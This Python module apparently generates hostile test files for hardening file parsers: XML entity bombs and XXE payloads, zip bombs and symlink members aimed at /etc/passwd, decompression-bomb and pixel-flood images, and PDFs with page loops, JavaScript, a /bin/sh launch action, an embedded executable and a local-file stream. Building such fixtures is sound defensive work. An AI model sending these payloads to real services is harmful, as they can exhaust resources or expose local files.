"""Hostile files, made byte by byte: zips, pictures, PDFs, office files, each true to what an attacker would send."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

from PIL import Image

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
    + "]>"
).encode()
"""A document type whose entity `j` is ten thousand million characters."""


def external(uri: str) -> bytes:
    """A document type whose entity `j` is what an address holds, and whose definition lies outside too."""
    return f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{uri}" [<!ENTITY j SYSTEM "{uri}">]>'.encode()


# zips ----------------------------------------------------------------------------------------------------------


def archive(path: Path, members: Sequence[tuple[str, bytes]]) -> Path:
    """A zip of the members."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in members:
            packed.writestr(name, data)
    return path


def special(path: Path, name: str, mode: int, data: bytes = b"/etc/passwd") -> Path:
    """A zip with one member of a file type such as `stat.S_IFLNK`, and a harmless one."""
    with zipfile.ZipFile(path, "w") as packed:
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = (mode | 0o777) << 16
        packed.writestr(info, data)
        packed.writestr("good.txt", "好")
    return path


def overlapping(path: Path, names: int = 50, size: int = 4_000_000) -> Path:
    """A zip whose members all unpack the same bytes."""
    data = bytes(size)
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = squeezed.compress(data) + squeezed.flush()
    local = struct.pack(
        "<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, zlib.crc32(data), len(packed), size, len(b"0"), 0
    )
    listed = b"".join(
        struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, zlib.crc32(data), len(packed), size,
            len(f"{number}.txt"), 0, 0, 0, 0, 0, 0,
        ) + f"{number}.txt".encode()
        for number in range(names)
    )  # fmt: skip
    start = len(local) + 1 + len(packed)
    path.write_bytes(local + b"0" + packed + listed + _end(names, len(listed), start))
    return path


def listed_without_end(path: Path, count: int = 400_000) -> Path:
    """A zip that holds nothing but a list of members."""
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, *[0] * 4, 0, 0, 0, 1, *[0] * 6) + b"a"
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, *[0] * 7, 1, 0) + b"a"
    path.write_bytes(local + entry * count + _end(count & 0xFFFF, len(entry) * count, len(local)))
    return path


def _end(count: int, size: int, start: int) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, size, start, 0)


def declaring(path: Path, name: str, data: bytes, size: int) -> Path:
    """A zip whose headers say that its member has `size` bytes."""
    archive(path, [(name, data)])
    path.write_bytes(path.read_bytes().replace(struct.pack("<I", len(data)), struct.pack("<I", size)))
    return path


def with_part(source: Path, target: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """An office file with one part changed."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, change(data) if info.filename == part else data)
    return target


# pictures ------------------------------------------------------------------------------------------------------


def png(width: int, height: int, *chunks: bytes) -> bytes:
    """A PNG that declares a size, whatever it holds."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(bytes(1000)))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + pixels + _chunk(b"IEND", b"")


def png_texts(count: int = 200, size: int = 900_000) -> list[bytes]:
    """Compressed texts, together `count * size` bytes."""
    return [_chunk(b"zTXt", b"k%d\0\0" % number + zlib.compress(b"a" * size, 9)) for number in range(count)]


def png_profile(size: int = 300_000_000) -> bytes:
    """A colour profile that unpacks to `size` bytes."""
    return _chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(size), 9))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff(width: int, height: int, following: int) -> bytes:
    """A tif of one directory at 8, which names the next one's place."""
    return b"II*\0" + struct.pack("<I", 8) + _directory(width, height, following) + bytes(300)


def tiff_chain(count: int) -> bytes:
    """A tif of so many directories."""
    one = len(_directory(10, 10, 0))
    return (
        b"II*\0"
        + struct.pack("<I", 8)
        + b"".join(
            _directory(10, 10, 8 + one * (number + 1) if number < count - 1 else 0) for number in range(count)
        )
    )


def _directory(width: int, height: int, following: int) -> bytes:
    tags = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (278, height), (279, 100))
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)


def floods() -> dict[str, bytes]:
    """Pictures of a few hundred bytes that declare thousands of millions of pixels."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    jpeg = bytearray(_encoded("JPEG"))
    start = jpeg.find(b"\xff\xc0") + 5
    jpeg[start : start + 4] = struct.pack(">HH", 65500, 65500)
    heic = bytearray(_encoded("HEIF"))
    start = heic.find(b"ispe") + 8
    heic[start : start + 8] = struct.pack(">II", 60000, 60000)
    header = struct.pack("<IiiHHIIiiII", 40, 60000, 60000, 1, 24, *[0] * 6)
    frame = struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
    return {
        "png": png(60000, 60000),
        "jpg": bytes(jpeg),
        "heic": bytes(heic),
        "tif": tiff(60000, 60000, 0),
        "bmp": b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + header,
        "gif": b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + bytes(6) + b"," + frame + b"\2\2L\1\0;",
        "webp": b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8L" + struct.pack("<I", 18) + b"\x2f"
        + struct.pack("<I", 16383 | 16383 << 14) + bytes(13),
    }  # fmt: skip


def _encoded(kind: str) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (64, 64)).save(held, kind)
    return held.getvalue()


# PDFs ----------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out = b"%PDF-1.7\n"
    places: list[int] = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, table, len(objects) + 1, len(out),
    )  # fmt: skip


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


CATALOGUE, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def page(entries: bytes = b"", box: bytes = b"0 0 600 800") -> bytes:
    """A page object, the third of a PDF."""
    return b"<</Type/Page/Parent 2 0 R/MediaBox[%s]%s>>" % (box, entries)


def picture_page() -> bytes:
    """A page that shows object 5; object 4 is `SHOWN`."""
    return page(b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>")


SHOWN = stream(b"q 600 0 0 800 0 0 cm /I Do Q")
_WIDE = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"


def pdfs() -> dict[str, bytes]:
    """PDFs that a reader must come through."""
    jpeg = floods()["jpg"]
    scripts = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\);"
        b"while\\(1\\);)>>/AA<</WC<</S/Launch/F(/bin/sh)>>>>/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec"
        b"/F(a.exe)/EF<</F 4 0 R>>>>]>>>>>>"
    )
    return {
        "pages-in-a-circle": pdf(CATALOGUE, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 100000000>>", page()),
        "two-thousand-million-pages": pdf(CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", page()),
        "a-page-of-300-km": pdf(CATALOGUE, PAGES, page(b"/UserUnit 1000", b"0 0 1e9 1e9")),
        "a-page-without-area": pdf(CATALOGUE, PAGES, page(box=b"0 0 0 0")),
        "scripts-and-programs": pdf(scripts, PAGES, page(), stream(b"MZ")),
        "a-stream-from-elsewhere": pdf(
            CATALOGUE, PAGES, page(b"/Contents 4 0 R"), b"<</Length 0/F(/etc/passwd)>>stream\n\nendstream"
        ),
        "a-picture-of-3600-megapixels": pdf(
            CATALOGUE,
            PAGES,
            picture_page(),
            SHOWN,
            stream(zlib.compress(bytes(100_000)), _WIDE + b"/Filter/FlateDecode"),
        ),
        "a-jpeg-of-4290-megapixels": pdf(
            CATALOGUE, PAGES, picture_page(), SHOWN, stream(jpeg, _WIDE + b"/Filter/DCTDecode")
        ),
    }
